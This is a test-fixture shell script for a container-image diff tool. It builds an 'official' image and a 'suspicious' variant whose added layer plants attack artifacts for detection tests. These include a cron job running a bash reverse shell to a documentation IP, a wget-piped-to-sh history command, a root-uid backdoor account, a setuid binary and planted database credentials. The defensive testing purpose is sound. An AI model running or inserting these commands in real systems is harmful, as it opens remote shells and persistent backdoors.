#!/usr/bin/env bash
# Build real images (umoci, skopeo) for `layerhound diff`: an "official" web image and a
# "suspicious" one built on all of its layers plus one more, which adds a cron reverse shell and
# a database password, changes /etc/passwd, makes a program setuid, retargets a symlink, deletes
# /etc/motd and adds a file whose name is not UTF-8. tests/diff.rs compares them.
#
#   bash tests/diff/make-diff-images.sh OUTDIR
#
# Writes:
#   OUTDIR/estate.oci.tar        OCI layout (packed with tar), tags `official` and `suspicious`
#   OUTDIR/official.docker.tar   `official` as a docker-archive (skopeo), web:official
#   OUTDIR/suspicious.docker.tar `suspicious` as a docker-archive, web:suspicious
# Needs: umoci, skopeo, GNU tar.
set -euo pipefail

if [ $# -ne 1 ]; then
    echo "usage: $0 OUTDIR" >&2
    exit 2
fi
for tool in umoci skopeo tar; do
    command -v "$tool" >/dev/null || { echo "$0: $tool not found" >&2; exit 1; }
done
mkdir -p "$1"
OUT=$(cd "$1" && pwd)
WORK=$(mktemp -d /tmp/layerhound-diff.XXXXXX)
trap 'rm -rf "$WORK"' EXIT
# shellcheck source=../common/umoci-bundle.sh
. "$(dirname "$0")/../common/umoci-bundle.sh"

umoci init --layout "$L"
umoci new --image "$L:official"
umoci config --no-history --architecture amd64 --os linux --image "$L:official"

# ---------------------------------------------------------------- official: base, then the app
unpack "$L:official"
mkdir -p "$R/usr/bin" "$R/etc" "$R/opt"
w "$R/etc/passwd" $'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/bin/false\n'
w "$R/etc/hosts" $'127.0.0.1\tlocalhost\n'
w "$R/etc/motd" $'Welcome.\n'
w "$R/usr/bin/tool" $'#!/bin/sh\necho tool\n'; chmod 0755 "$R/usr/bin/tool"
ln -s tool "$R/usr/bin/helper"
w "$R/opt/base-"$'\xff'"name" $'unchanged file with an odd name\n'
repack "$L:official" "/bin/sh -c #(nop) ADD file:base in / "

unpack "$L:official"
w "$R/app/index.html" $'<html><body>hello</body></html>\n'
w "$R/app/.env" $'DATABASE_URL=postgres://app:Sup3rS3cretPass@db.internal:5432/app\n'
repack "$L:official" "/bin/sh -c #(nop) COPY dir:app in /app "

# ---------------------------------------------------------------- suspicious: official + one layer
umoci tag --image "$L:official" suspicious
unpack "$L:suspicious"
w "$R/etc/cron.d/sync" $'* * * * * root /bin/bash -c "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"\n'
w "$R/etc/passwd" $'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/bin/false\nsysd:x:0:0::/root:/bin/sh\n'
chmod 04755 "$R/usr/bin/tool"
rm "$R/usr/bin/helper"; ln -s /tmp/.x/helper "$R/usr/bin/helper"
rm "$R/etc/motd"
w "$R/opt/.cache/.env" $'DATABASE_URL=mysql://root:Xk9vQ2mTz7pL@198.51.100.23:3306/loot\n'
w "$R/opt/new-"$'\xfe\x1b'"name" $'an added file with an odd name\n'
repack "$L:suspicious" "/bin/sh -c wget -qO- http://198.51.100.23/i.sh | sh"

(cd "$L" && tar --sort=name --mtime=@1700000000 --owner=0 --group=0 -cf "$OUT/estate.oci.tar" .)
skopeo copy -q "oci:$L:official" "docker-archive:$OUT/official.docker.tar:web:official"
skopeo copy -q "oci:$L:suspicious" "docker-archive:$OUT/suspicious.docker.tar:web:suspicious"
